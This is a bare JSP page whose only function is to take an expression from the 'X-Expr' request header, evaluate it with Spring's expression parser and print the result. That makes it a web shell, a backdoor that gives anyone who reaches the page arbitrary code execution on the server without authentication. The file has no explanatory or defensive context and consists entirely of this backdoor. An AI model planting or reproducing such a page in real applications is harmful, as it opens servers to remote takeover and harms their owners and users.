<%@ page import="org.springframework.expression.spel.standard.SpelExpressionParser" %>
<%
  String expr = request.getHeader("X-Expr");
  if (expr != null) {
    Object r = new SpelExpressionParser().parseExpression(expr).getValue();
    out.print(String.valueOf(r));
  }
%>
